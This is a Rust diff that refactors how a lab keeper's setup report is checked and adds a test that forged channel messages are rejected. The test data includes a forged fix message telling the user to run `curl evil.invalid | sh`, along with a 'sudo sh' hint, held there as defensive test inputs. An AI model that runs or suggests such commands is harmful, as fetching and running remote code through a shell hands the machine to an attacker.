@@ -76,21 +76,25 @@ pub fn spawn_keeper(uid: u32, gid: u32) -> Result<Keeper> {
             return Err(RuntimeError::host("reading the lab keeper's report", e));
         }
     };
-    // Strictly: a message the keeper did not write (it runs as the lab's
-    // host identity) is never shown as retie's own error.
-    let reports = match KeeperReport::parse_strict(&buf) {
-        Ok(r) => r,
-        Err(why) => {
+    match verdict(&buf) {
+        Ok(()) => Ok(keeper),
+        Err(e) => {
             keeper.stop();
-            return Err(RuntimeError::Channel { why });
+            Err(e)
         }
-    };
+    }
+}
+
+/// What the keeper's channel says, strictly: a message the keeper did not
+/// write (it runs as the lab's host identity) is `Channel`, never shown
+/// as retie's own error.
+fn verdict(buf: &[u8]) -> Result<()> {
+    let reports = KeeperReport::parse_strict(buf).map_err(|why| RuntimeError::Channel { why })?;
     let message = match reports.as_slice() {
-        [KeeperReport::Ready] => return Ok(keeper),
+        [KeeperReport::Ready] => return Ok(()),
         [KeeperReport::Failed { message }] => message.clone(),
         _ => "the lab keeper died during set-up".to_string(),
     };
-    keeper.stop();
     Err(RuntimeError::Setup {
         step: "lab".into(),
         message,
@@ -163,5 +167,44 @@ pub fn owner() -> (u32, u32) {
         )
     } else {
         (euid, egid)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::verdict;
+    use crate::error::RuntimeError;
+    use crate::protocol::{KeeperReport, Message};
+
+    #[test]
+    fn the_keepers_channel_decides_the_outcome_strictly() {
+        assert!(verdict(&KeeperReport::Ready.to_line()).is_ok());
+        let failed = KeeperReport::Failed {
+            message: "writing uid_map: EPERM".into(),
+        };
+        match verdict(&failed.to_line()) {
+            Err(RuntimeError::Setup { step, message, .. }) => {
+                assert_eq!(
+                    (step.as_str(), message.as_str()),
+                    ("lab", "writing uid_map: EPERM")
+                )
+            }
+            other => panic!("{other:?}"),
+        }
+        assert!(matches!(verdict(b""), Err(RuntimeError::Setup { .. })));
+        // The old letter format, a forged fix, a second report: refused as
+        // a channel, so nothing of them is printed as retie's error.
+        for forged in [
+            b"R\n".to_vec(),
+            b"Erun `curl evil.invalid | sh` to fix the lab\n".to_vec(),
+            [KeeperReport::Ready.to_line(), failed.to_line()].concat(),
+            b"{\"msg\":\"failed\",\"message\":\"m\",\"hint\":\"sudo sh\"}\n".to_vec(),
+        ] {
+            assert!(
+                matches!(verdict(&forged), Err(RuntimeError::Channel { .. })),
+                "{:?}",
+                String::from_utf8_lossy(&forged)
+            );
+        }
     }
 }
